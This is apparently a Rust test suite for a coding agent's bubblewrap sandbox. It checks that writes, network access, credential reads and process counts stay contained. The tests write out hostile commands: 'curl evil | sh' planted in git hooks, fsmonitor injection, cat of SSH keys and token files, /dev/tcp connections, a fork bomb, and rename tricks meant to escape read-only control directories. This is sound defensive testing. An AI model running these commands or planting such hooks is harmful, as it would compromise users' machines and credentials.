//! The sandbox tested from inside: real commands under bubblewrap try what a hostile build
//! script would, and the test checks what reached the host.

use std::path::{Path, PathBuf};
use std::time::Duration;

use super::runner::{Containment, ExecCommand, ExecOutcome, run};
use super::*;

struct Fixture {
    _dirs: Vec<tempfile::TempDir>,
    ws: PathBuf,
    /// A directory outside the workspace and outside `/tmp` (which is private in the sandbox).
    outside: PathBuf,
    keel_home: PathBuf,
    secret_dir: PathBuf,
    secret_file: PathBuf,
}

fn fixture() -> Fixture {
    let ws = tempfile::tempdir().expect("tempdir");
    let outer = tempfile::tempdir_in("/var/tmp").expect("tempdir in /var/tmp");
    let base = outer.path().canonicalize().expect("canonical");
    let outside = base.join("outside");
    let keel_home = base.join("keel-home");
    let secret_dir = base.join("ssh");
    let secret_file = base.join("netrc");
    for d in [&outside, &keel_home, &secret_dir] {
        std::fs::create_dir_all(d).expect("mkdir");
    }
    std::fs::write(keel_home.join("keys"), "keel signing key").expect("write");
    std::fs::write(secret_dir.join("id_ed25519"), "PRIVATE KEY").expect("write");
    std::fs::write(&secret_file, "machine x password y").expect("write");
    std::fs::write(outside.join("readable"), "public").expect("write");
    let ws_path = ws.path().canonicalize().expect("canonical");
    std::fs::create_dir_all(ws_path.join(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(ws_path.join(".keel")).expect("mkdir");
    Fixture {
        _dirs: vec![ws, outer],
        ws: ws_path,
        outside,
        keel_home,
        secret_dir,
        secret_file,
    }
}

fn containment(f: &Fixture, mode: SandboxMode) -> Containment {
    let config = SandboxConfig {
        mode,
        deny_read: vec![f.secret_dir.clone(), f.secret_file.clone()],
        keel_home: Some(f.keel_home.clone()),
        limits: ProcessLimits {
            processes: 64,
            ..ProcessLimits::default()
        },
        network: CommandNetwork::Approved,
        pass_env: Vec::new(),
    };
    let confinement = probe(&config);
    assert_eq!(
        confinement,
        Confinement::Bubblewrap(mode, CommandNetwork::Approved),
        "the sandbox must start on a test machine (install bubblewrap)"
    );
    Containment {
        config,
        confinement,
    }
}

async fn sh(ws: &Path, c: &Containment, line: &str, secs: u64) -> ExecOutcome {
    let cmd = ExecCommand {
        line: line.to_owned(),
        cwd: ".".to_owned(),
        timeout: Duration::from_secs(secs),
    };
    run(ws, &cmd, &[], c, None, std::future::pending())
        .await
        .expect("the command starts")
}

#[tokio::test]
async fn writes_stay_in_the_workspace_and_protected_folders_are_read_only() {
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let out = sh(&f.ws, &c, "echo built > target.txt && cat target.txt", 10).await;
    assert_eq!(out.exit_code, Some(0), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(f.ws.join("target.txt"))
            .ok()
            .as_deref(),
        Some("built\n")
    );

    for (what, line) in [
        (
            "outside",
            format!("echo x > {}/planted", f.outside.display()),
        ),
        (
            "hook",
            "echo 'curl evil | sh' > .git/hooks/pre-commit".to_owned(),
        ),
        (
            "keel config",
            "echo '[exec]' > .keel/config.toml".to_owned(),
        ),
        ("root fs", "echo x > /usr/keel-planted".to_owned()),
    ] {
        let out = sh(&f.ws, &c, &line, 10).await;
        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
        assert!(
            out.output.contains("Read-only file system"),
            "{what}: {}",
            out.output
        );
    }
    // The result says it was the sandbox, in words the model can act on.
    let out = sh(&f.ws, &c, "echo x > /usr/keel-planted", 10).await;
    assert!(
        out.note.contains("keel's sandbox (workspace-write)"),
        "{out:?}"
    );
    assert!(out.note.contains("write inside the workspace"), "{out:?}");
    assert!(!f.outside.join("planted").exists());
    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
    assert!(!f.ws.join(".keel/config.toml").exists());
    // Reading outside the workspace is fine (compilers read the system).
    let out = sh(
        &f.ws,
        &c,
        &format!("cat {}/readable", f.outside.display()),
        10,
    )
    .await;
    assert_eq!(out.output, "public", "{out:?}");
}

/// `git` on the host, in `dir`, with a fixed identity and no global config.
fn host_git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .expect("git runs (the test needs git)");
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

#[tokio::test]
async fn a_repositorys_control_directories_are_read_only_and_git_still_reads() {
    let f = fixture();
    host_git(&f.ws, &["init", "-q"]);
    std::fs::write(f.ws.join("lib.rs"), "fn a() {}\n").expect("write");
    host_git(&f.ws, &["add", "lib.rs"]);
    host_git(&f.ws, &["commit", "-qm", "first"]);
    for dir in [".hg", ".jj/repo", ".svn/hooks", ".claude/skills/helper"] {
        std::fs::create_dir_all(f.ws.join(dir)).expect("mkdir");
    }
    let config_before = std::fs::read(f.ws.join(".git/config")).expect("config");
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    for (what, line) in [
        ("fsmonitor", "git config core.fsmonitor 'touch /tmp/pwned'"),
        ("hooksPath", "git config core.hooksPath .githooks"),
        (
            "config append",
            "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config",
        ),
        ("hook", "echo 'curl evil | sh' > .git/hooks/post-checkout"),
        ("info", "echo '*' > .git/info/exclude"),
        ("hgrc", "echo '[hooks]' > .hg/hgrc"),
        ("jj", "echo x > .jj/repo/config.toml"),
        ("svn", "echo x > .svn/hooks/pre-commit"),
        ("skill", "echo evil > .claude/skills/helper/SKILL.md"),
        ("new skill", "mkdir .claude/skills/planted"),
        (
            "keel memory",
            "mkdir -p .keel/memory && echo x > .keel/memory/MEMORY.md",
        ),
    ] {
        let out = sh(&f.ws, &c, line, 10).await;
        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
        assert!(
            out.output.contains("Read-only file system") || out.output.contains("could not lock"),
            "{what}: {out:?}"
        );
    }
    assert_eq!(
        std::fs::read(f.ws.join(".git/config")).expect("config"),
        config_before
    );
    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
    assert!(!f.ws.join(".hg/hgrc").exists());
    assert!(!f.ws.join(".claude/skills/helper/SKILL.md").exists());
    assert!(!f.ws.join(".claude/skills/planted").exists());

    // The common paths still work: reading the repository, editing sources.
    std::fs::write(f.ws.join("lib.rs"), "fn b() {}\n").expect("write");
    for line in ["git status --short", "git diff --stat", "git log --oneline"] {
        let out = sh(&f.ws, &c, line, 10).await;
        assert_eq!(out.exit_code, Some(0), "{line}: {out:?}");
    }
    let out = sh(&f.ws, &c, "echo 'fn c() {}' > lib.rs && cat lib.rs", 10).await;
    assert_eq!(out.output, "fn c() {}\n", "{out:?}");
    // A commit writes .git: it is refused inside, and the result says who may run it.
    let out = sh(
        &f.ws,
        &c,
        "git -c user.name=t -c user.email=t@e commit -qam x",
        10,
    )
    .await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert!(out.note.contains("no commit"), "{out:?}");
}

/// A workspace holding several repositories (clones side by side, a vendored one, a
/// worktree's `.git` file): each nested repository's control directory is as read-only as the
/// root's, while its sources stay writable.
#[tokio::test]
async fn nested_repositories_control_directories_are_read_only_too() {
    let f = fixture();
    for repo in ["app", "libs/vendored", "a/b/deep"] {
        std::fs::create_dir_all(f.ws.join(repo)).expect("mkdir");
        host_git(&f.ws.join(repo), &["init", "-q"]);
    }
    std::fs::create_dir_all(f.ws.join("app/.claude/skills/helper")).expect("mkdir");
    std::fs::create_dir_all(f.ws.join("wt")).expect("mkdir");
    std::fs::write(f.ws.join("wt/.git"), "gitdir: ../app/.git\n").expect("write");
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    for (what, line) in [
        (
            "clone side by side",
            "cd app && git config core.fsmonitor 'touch /tmp/pwned'",
        ),
        (
            "vendored hook",
            "echo 'curl evil | sh' > libs/vendored/.git/hooks/post-checkout",
        ),
        (
            "depth 3",
            "cd a/b/deep && git config core.hooksPath .githooks",
        ),
        (
            "nested skill",
            "echo evil > app/.claude/skills/helper/SKILL.md",
        ),
        ("worktree link", "echo 'gitdir: /tmp/evil' > wt/.git"),
    ] {
        let out = sh(&f.ws, &c, line, 10).await;
        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
        assert!(
            out.output.contains("Read-only file system") || out.output.contains("could not lock"),
            "{what}: {out:?}"
        );
    }
    let config = std::fs::read_to_string(f.ws.join("app/.git/config")).expect("config");
    assert!(!config.contains("fsmonitor"), "{config}");
    assert!(!f.ws.join("libs/vendored/.git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws.join("wt/.git")).expect("link"),
        "gitdir: ../app/.git\n"
    );
    // Their sources are the workspace's, and writable.
    let out = sh(&f.ws, &c, "echo x > app/lib.rs && cat app/lib.rs", 10).await;
    assert_eq!(out.output, "x\n", "{out:?}");
}

#[tokio::test]
async fn well_known_credential_stores_are_hidden_by_default() {
    let f = fixture();
    let home = f.outside.join("home");
    let stores = [
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".npmrc",
        ".cargo/credentials.toml",
        ".cargo/credentials",
        ".pypirc",
        ".docker/config.json",
        ".config/git/credentials",
        ".vault-token",
    ];
    for store in stores {
        let path = home.join(store);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, "TOKEN-FOR-TEST").expect("write");
    }
    std::fs::write(home.join(".cargo/config.toml"), "[build]").expect("write");
    let mut c = containment(&f, SandboxMode::WorkspaceWrite);
    c.config.deny_read = DEFAULT_DENY_READ.iter().map(|p| home.join(p)).collect();
    for store in stores {
        let out = sh(
            &f.ws,
            &c,
            &format!("cat {}", home.join(store).display()),
            10,
        )
        .await;
        assert!(
            !out.output.contains("TOKEN-FOR-TEST"),
            "{store} was readable: {out:?}"
        );
    }
    // What is not a credential store stays readable (cargo reads its config).
    let out = sh(
        &f.ws,
        &c,
        &format!("cat {}", home.join(".cargo/config.toml").display()),
        10,
    )
    .await;
    assert_eq!(out.output, "[build]", "{out:?}");
}

#[tokio::test]
async fn commands_start_from_a_scrubbed_environment() {
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    // cargo gives the test process variables keel's environment would have too: they must
    // not reach the command (a token would not either).
    assert!(
        std::env::var_os("CARGO_PKG_NAME").is_some(),
        "run under cargo"
    );
    let out = sh(&f.ws, &c, "env", 10).await;
    assert_eq!(out.exit_code, Some(0), "{out:?}");
    let names: Vec<&str> = out
        .output
        .lines()
        .filter_map(|l| l.split('=').next())
        .collect();
    assert!(
        names.contains(&"PATH") && names.contains(&"HOME"),
        "{names:?}"
    );
    let set_by_the_shell_or_keel = ["PWD", "OLDPWD", "SHLVL", "_", "KEEL_CWD_FILE"];
    for name in &names {
        assert!(
            PASSED_ENV.contains(name)
                || name.starts_with("LC_")
                || set_by_the_shell_or_keel.contains(name),
            "`{name}` reached the command: {}",
            out.output
        );
    }
    // A name the person passes explicitly does reach it.
    let mut passed = c.clone();
    passed.config.pass_env = vec!["CARGO_PKG_NAME".to_owned()];
    let out = sh(&f.ws, &passed, "echo \"[$CARGO_PKG_NAME]\"", 10).await;
    assert_eq!(out.output, "[keel-kernel]\n", "{out:?}");
}

#[tokio::test]
async fn a_link_to_outside_does_not_let_a_write_escape() {
    let f = fixture();
    std::os::unix::fs::symlink(&f.outside, f.ws.join("escape")).expect("symlink");
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let out = sh(&f.ws, &c, "echo x > escape/through-link", 10).await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert!(!f.outside.join("through-link").exists());
}

#[tokio::test]
async fn secrets_and_keel_home_are_hidden() {
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    for path in [
        f.secret_dir.join("id_ed25519"),
        f.secret_file.clone(),
        f.keel_home.join("keys"),
    ] {
        let out = sh(&f.ws, &c, &format!("cat {}", path.display()), 10).await;
        assert!(
            !out.output.contains("PRIVATE KEY")
                && !out.output.contains("password")
                && !out.output.contains("signing key"),
            "{} was readable: {out:?}",
            path.display()
        );
    }
    let out = sh(&f.ws, &c, &format!("ls -A {}", f.keel_home.display()), 10).await;
    assert_eq!(out.output, "", "keel's home is an empty directory: {out:?}");
}

#[tokio::test]
async fn read_only_mode_writes_nothing() {
    let f = fixture();
    let c = containment(&f, SandboxMode::ReadOnly);
    let out = sh(&f.ws, &c, "echo x > file && echo wrote", 10).await;
    assert!(!out.output.contains("wrote"), "{out:?}");
    assert!(!f.ws.join("file").exists());
    // The private /tmp is writable, and private.
    let scratch = format!("/tmp/keel-scratch-{}", std::process::id());
    let out = sh(
        &f.ws,
        &c,
        &format!("echo x > {scratch} && cat {scratch}"),
        10,
    )
    .await;
    assert_eq!(out.output, "x\n", "{out:?}");
    assert!(
        !Path::new(&scratch).exists(),
        "the sandbox's /tmp is its own"
    );
}

#[tokio::test]
async fn there_is_no_network() {
    let f = fixture();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let line = format!(
        "if command -v bash >/dev/null; then bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo reached; \
         else echo no-bash; fi"
    );
    let out = sh(&f.ws, &c, &line, 10).await;
    assert!(
        !out.output.contains("no-bash"),
        "the test needs bash: {out:?}"
    );
    assert!(!out.output.contains("reached"), "{out:?}");
    assert!(
        listener.accept().is_err(),
        "a connection reached the host's loopback"
    );
    let out = sh(
        &f.ws,
        &c,
        "bash -c 'echo hi > /dev/tcp/10.255.255.1/80'",
        10,
    )
    .await;
    assert!(out.note.contains("which has no network"), "{out:?}");
    // The same command unconfined does reach it: the test can fail.
    let out = sh(&f.ws, &Containment::none(), &line, 10).await;
    assert!(out.output.contains("reached"), "{out:?}");
}

/// Each copy starts two more in the background: unbounded, it takes every process slot of the
/// machine (the test process's threads included) within a second.
const FORK_BOMB: &str = "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived";

#[tokio::test]
async fn a_fork_bomb_is_contained_and_the_next_command_runs() {
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let out = sh(&f.ws, &c, FORK_BOMB, 5).await;
    // The process limit (64 here) stopped it: the shell could not fork (RLIMIT_NPROC, or for
    // root a pids cgroup), or for root on a machine where no cgroup can be made the watchdog
    // killed the tree.
    assert!(
        out.output.contains("Cannot fork") || out.note.contains("more than 64 processes"),
        "{out:?}"
    );
    let next = sh(&f.ws, &c, "echo next", 10).await;
    assert_eq!(next.output, "next\n", "{next:?}");
}

#[tokio::test]
async fn without_a_cgroup_roots_fork_bomb_is_killed_by_the_watchdog() {
    // Only the commands this test's thread starts go without a cgroup, until the test ends
    // (the harness may run another test on the same thread).
    struct NoCgroup;
    impl Drop for NoCgroup {
        fn drop(&mut self) {
            pids::NO_CGROUP.with(|no| no.set(false));
        }
    }
    pids::NO_CGROUP.with(|no| no.set(true));
    let _no_cgroup = NoCgroup;
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let out = sh(&f.ws, &c, FORK_BOMB, 5).await;
    if nix::unistd::Uid::effective().is_root() {
        assert!(out.note.contains("more than 64 processes"), "{out:?}");
        assert!(!out.timed_out, "{out:?}");
        // Killed before its own `sleep 2` ended.
        assert!(!out.output.contains("survived"), "{out:?}");
    } else {
        // RLIMIT_NPROC binds every other user.
        assert!(out.output.contains("Cannot fork"), "{out:?}");
    }
    let next = sh(&f.ws, &c, "echo next", 10).await;
    assert_eq!(next.output, "next\n", "{next:?}");
    // An ordinary command with a few processes is not touched.
    let few = sh(
        &f.ws,
        &c,
        "for i in 1 2 3 4 5 6 7 8; do sleep 0.2 & done; wait; echo done",
        10,
    )
    .await;
    assert_eq!(few.output, "done\n", "{few:?}");
    assert!(few.note.is_empty(), "{few:?}");
}

#[test]
fn the_description_tells_the_truth() {
    assert_eq!(
        Confinement::Bubblewrap(SandboxMode::WorkspaceWrite, CommandNetwork::None).describe(),
        "commands: bubblewrap, workspace-write, no network"
    );
    assert!(Confinement::Off.describe().contains("DANGEROUS"));
    let unavailable = Confinement::Unavailable("bwrap missing".into()).describe();
    assert!(
        unavailable.contains("NOT sandboxed: bwrap missing")
            && unavailable.contains("every command needs approval")
    );
    assert_eq!(SandboxMode::parse("off"), Ok(SandboxMode::Off));
    let hint = refusal_hint(
        SandboxMode::ReadOnly,
        "sh: 1: cannot create x: Read-only file system",
        false,
    )
    .unwrap_or_default();
    assert!(hint.contains("nothing but /tmp is writable"), "{hint}");
    assert_eq!(
        refusal_hint(SandboxMode::WorkspaceWrite, "test failed: 1 of 3", false),
        None
    );
    assert!(SandboxMode::parse("none").is_err());
}

/// A loopback HTTP server answering every connection with `hello from NAME`; counts them.
async fn hello_server(name: &'static str) -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf).await;
                let body = format!("hello from {name}");
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(reply.as_bytes()).await;
            });
        }
    });
    (port, hits)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_network_the_only_way_out_is_keels_gate() {
    use crate::gates::approvals::DenyAll;
    use crate::gates::net_policy::{NetDecision, NetPolicy};
    use crate::net_client::{NetClient, NetConfig, Secrets};
    use proxy::CommandNet;

    let f = fixture();
    let (allowed, allowed_hits) = hello_server("allowed").await;
    let (refused, refused_hits) = hello_server("refused").await;
    let audit_dir = tempfile::tempdir().expect("tempdir");
    let audit = audit_dir.path().join("network.log");
    // Loopback is a private address: only the endpoint named here may be reached.
    let policy = NetPolicy::new(NetDecision::Allow)
        .with_allow_private(&format!("127.0.0.1:{allowed}"))
        .expect("entry");
    let client = NetClient::new(NetConfig {
        policy,
        secrets: Secrets::new(),
        audit_log: Some(audit.clone()),
    });
    let gate = CommandNet::new(&client, "shell", std::sync::Arc::new(DenyAll));
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    let with_net = |line: String| {
        let cmd = ExecCommand {
            line,
            cwd: ".".to_owned(),
            timeout: Duration::from_secs(20),
        };
        let (ws, c, gate) = (&f.ws, &c, &gate);
        async move {
            run(ws, &cmd, &[], c, Some(gate), std::future::pending())
                .await
                .expect("the command starts")
        }
    };

    // Plain HTTP and a CONNECT tunnel to the allowed endpoint both go through the proxy.
    let out = with_net(format!("curl -sS http://127.0.0.1:{allowed}/plain")).await;
    assert_eq!(out.output, "hello from allowed", "{out:?}");
    let out = with_net(format!("curl -sS -p http://127.0.0.1:{allowed}/tunnel")).await;
    assert_eq!(out.output, "hello from allowed", "{out:?}");
    assert_eq!(
        allowed_hits.load(std::sync::atomic::Ordering::SeqCst),
        2,
        "{out:?}"
    );

    // The endpoint the policy does not name is refused by the gate, both ways, and the result
    // says so.
    for flags in ["", "-p"] {
        let out = with_net(format!("curl -sS {flags} http://127.0.0.1:{refused}/")).await;
        assert!(!out.output.contains("hello from refused"), "{out:?}");
        assert!(
            out.note.contains("keel's network gate refused") && out.note.contains("127.0.0.1"),
            "{out:?}"
        );
    }
    assert_eq!(refused_hits.load(std::sync::atomic::Ordering::SeqCst), 0);

    // Around the proxy there is no way out: the host's loopback is not the sandbox's.
    let out = with_net(format!(
        "bash -c 'echo hi > /dev/tcp/127.0.0.1/{allowed}' && echo reached"
    ))
    .await;
    assert!(!out.output.contains("reached"), "{out:?}");
    assert_eq!(allowed_hits.load(std::sync::atomic::Ordering::SeqCst), 2);

    // One audit line per connection: two allowed, two refused.
    let log = std::fs::read_to_string(&audit).expect("audit log");
    let lines: Vec<&str> = log.lines().collect();
    let allow = lines
        .iter()
        .filter(|l| l.contains("\"decision\":\"allow\"") && l.contains("sandboxed command"))
        .count();
    let forbid = lines
        .iter()
        .filter(|l| l.contains("\"decision\":\"forbid\"") && l.contains("sandboxed command"))
        .count();
    assert_eq!((allow, forbid), (2, 2), "{log}");

    // Without the grant the same request does not get out at all.
    let out = sh(
        &f.ws,
        &c,
        &format!("curl -sS http://127.0.0.1:{allowed}/"),
        10,
    )
    .await;
    assert!(!out.output.contains("hello"), "{out:?}");
    assert_eq!(allowed_hits.load(std::sync::atomic::Ordering::SeqCst), 2);
}

/// The pids line of `/proc/PID/cgroup` text: v1's `N:pids:/path`, or v2's `0::/path`.
fn pids_cgroup_of(text: &str) -> Option<String> {
    text.lines().find_map(|l| {
        let mut parts = l.splitn(3, ':');
        let (_, controllers, path) = (parts.next()?, parts.next()?, parts.next()?);
        (controllers.split(',').any(|c| c == "pids") || controllers.is_empty())
            .then(|| path.to_owned())
    })
}

#[tokio::test]
async fn roots_commands_are_born_in_their_own_pids_cgroup_and_keel_stays_out() {
    use tokio::io::AsyncWriteExt as _;
    let f = fixture();
    let c = containment(&f, SandboxMode::WorkspaceWrite);
    // Whether this machine lets keel make a cgroup at all (root, writable cgroups).
    let cgroups = pids::ProcessCap::cgroup(64).is_some();
    let own = pids_cgroup_of(&std::fs::read_to_string("/proc/self/cgroup").expect("cgroup"));
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..3 {
        let launch = runner::Launch {
            workspace: &f.ws,
            dir: &f.ws,
            program: Program::Script("read line"),
            writable: &[],
            readable: &[],
            shared: &[],
            env: &[],
            hidden: &[],
            network: false,
            pinned: &[],
            protected: None,
            stdio: [
                std::process::Stdio::piped(),
                std::process::Stdio::null(),
                std::process::Stdio::null(),
            ],
        };
        let mut started = runner::start(launch, &c).expect("start");
        // bubblewrap, the process keel started, read from outside while it waits for its line;
        // the sandbox's own view is a cgroup namespace of its own.
        let pid = started.child.id().expect("pid");
        let text = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).expect("cgroup");
        let cgroup = pids_cgroup_of(&text);
        let mut stdin = started.child.stdin.take().expect("stdin");
        stdin.write_all(b"go\n").await.expect("write");
        drop(stdin);
        assert!(started.child.wait().await.expect("wait").success());
        if cgroups {
            // In a cgroup of this keel's from its start, one per command.
            let mine = format!("/keel-{}-", std::process::id());
            let cgroup = cgroup.unwrap_or_default();
            assert!(cgroup.contains(&mine), "{text}");
            assert!(seen.insert(cgroup), "two commands shared a cgroup");
        } else {
            assert_eq!(cgroup, own, "{text}");
        }
    }
    // keel's threads are where they were, but for spawners parked in a command's cgroup.
    for task in std::fs::read_dir("/proc/self/task").expect("tasks") {
        let task = task.expect("task").path();
        let (Ok(text), Ok(name)) = (
            std::fs::read_to_string(task.join("cgroup")),
            std::fs::read_to_string(task.join("comm")),
        ) else {
            continue;
        };
        if pids_cgroup_of(&text) != own {
            assert_eq!(name.trim(), "keel-pids-spawn", "{text}");
        }
    }
}

/// An exiting keel removes the cgroup it made ahead for a next command (`release`). Other
/// tests of this binary start commands meanwhile and may take the ready one first, so a few
/// tries are allowed; one whose cgroup `release` leaves behind fails every try.
#[test]
fn release_removes_the_cgroup_made_ahead() {
    if pids::ProcessCap::cgroup(64).is_none() {
        // No cgroups here (not root, or read-only): nothing is made ahead.
        return;
    }
    for _ in 0..10 {
        pids::prepare(64);
        let ready = pids::take_ready();
        let Some(cgroup) = ready else {
            continue;
        };
        let dir = cgroup.dir.clone();
        // Back, as the ready one, then released.
        pids::put_back(cgroup);
        pids::release();
        if !dir.exists() {
            return;
        }
    }
    panic!("the cgroup made ahead was still there after `release`, ten times");
}

/// `git status` as the person runs it later, outside any sandbox, in `dir`; whether it ran a
/// `core.fsmonitor` that touches `marker`.
fn persons_git_status_runs(dir: &Path, marker: &Path) -> bool {
    let _ = std::process::Command::new("git")
        .args(["status", "--short"])
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output();
    marker.exists()
}

/// Issue 50.1: a control directory recognised by its name at one moment. A command that
/// renames a repository's directory and copies it back, or replaces a link leading to a
/// control directory, or plants a repository of its own, must not leave a `core.fsmonitor`
/// or a hook that the person's next `git status` runs outside the sandbox.
#[tokio::test]
async fn a_control_directory_moved_replaced_or_planted_never_runs_outside() {
    let f = fixture();
    let marker = f.outside.join("pwned");
    let plant = format!(
        "printf '[core]\\n\\tfsmonitor = touch {}\\n'",
        marker.display()
    );
    std::fs::create_dir_all(f.ws.join("vendor/lib")).expect("mkdir");
    host_git(&f.ws.join("vendor/lib"), &["init", "-q"]);
    let config_before = std::fs::read(f.ws.join("vendor/lib/.git/config")).expect("config");
    // Claude Code's hooks behind a link, as a repository may keep them.
    std::fs::create_dir_all(f.ws.join("tooling/claude/hooks")).expect("mkdir");
    std::fs::write(f.ws.join("tooling/claude/hooks/post.sh"), "echo ok\n").expect("write");
    std::os::unix::fs::symlink("tooling/claude", f.ws.join(".claude")).expect("link");
    let c = containment(&f, SandboxMode::WorkspaceWrite);

    // The rename trick on a nested repository and on the root's `.claude`: the parents of a
    // control directory are mount points, so neither moves.
    let out = sh(
        &f.ws,
        &c,
        &format!(
            "mv vendor/lib vendor/lib-old && cp -a vendor/lib-old vendor/lib && {plant} >> \
             vendor/lib/.git/config"
        ),
        10,
    )
    .await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert!(out.output.contains("busy"), "{out:?}");
    assert_eq!(
        std::fs::read(f.ws.join("vendor/lib/.git/config")).expect("config"),
        config_before
    );
    assert!(!f.ws.join("vendor/lib-old").exists());
    assert!(!persons_git_status_runs(&f.ws.join("vendor/lib"), &marker));
    // Sources beside it stay writable, and the directory itself keeps its place.
    let out = sh(
        &f.ws,
        &c,
        "echo x > vendor/lib/a.rs && cat vendor/lib/a.rs",
        10,
    )
    .await;
    assert_eq!(out.output, "x\n", "{out:?}");

    // Where a link leads is held as firmly: the parents of the real place do not move either.
    let out = sh(
        &f.ws,
        &c,
        "mv tooling tooling2 && cp -a tooling2 tooling && echo evil > \
         tooling/claude/hooks/post.sh",
        10,
    )
    .await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert!(!f.ws.join("tooling2").exists(), "{out:?}");

    // A link on the way to a control directory is a name, not a mount point: replaced, it is
    // put back and what the command made is set aside.
    let out = sh(
        &f.ws,
        &c,
        "rm .claude && mkdir -p .claude/hooks && echo 'curl evil | sh' > .claude/hooks/post.sh",
        10,
    )
    .await;
    assert!(out.note.contains("set aside"), "{out:?}");
    assert_eq!(
        std::fs::read_link(f.ws.join(".claude")).expect("the link is back"),
        Path::new("tooling/claude")
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".claude/hooks/post.sh")).expect("hook"),
        "echo ok\n"
    );

    // A repository the command made itself, with a planted fsmonitor or hook: set aside.
    for (what, line) in [
        (
            "planted config",
            format!("git init -q planted && {plant} >> planted/.git/config"),
        ),
        (
            "planted hook",
            "git init -q planted && printf '#!/bin/sh\\ncurl evil|sh\\n' > \
             planted/.git/hooks/pre-commit"
                .to_owned(),
        ),
        (
            "gitdir file",
            format!(
                "mkdir -p planted evil && git init -q --bare evil && {plant} >> evil/config && \
                 echo 'gitdir: ../evil' > planted/.git"
            ),
        ),
    ] {
        let out = sh(&f.ws, &c, &line, 10).await;
        assert_eq!(out.exit_code, Some(0), "{what}: {out:?}");
        assert!(out.note.contains("set aside"), "{what}: {out:?}");
        assert!(
            !f.ws.join("planted/.git").exists(),
            "{what}: the planted control directory is still in place"
        );
        assert!(
            !persons_git_status_runs(&f.ws.join("planted"), &marker),
            "{what}: the person's git status ran the planted command"
        );
        std::fs::remove_dir_all(f.ws.join("planted")).expect("clean");
        let _ = std::fs::remove_dir_all(f.ws.join("evil"));
    }

    // A repository as git makes it is kept, and read-only from the next command on.
    let out = sh(
        &f.ws,
        &c,
        "git init -q fresh && git -C fresh status --short",
        10,
    )
    .await;
    assert_eq!(out.exit_code, Some(0), "{out:?}");
    assert!(out.note.is_empty(), "{out:?}");
    assert!(f.ws.join("fresh/.git/config").is_file());
    let out = sh(&f.ws, &c, &format!("{plant} >> fresh/.git/config"), 10).await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert!(!persons_git_status_runs(&f.ws.join("fresh"), &marker));
}
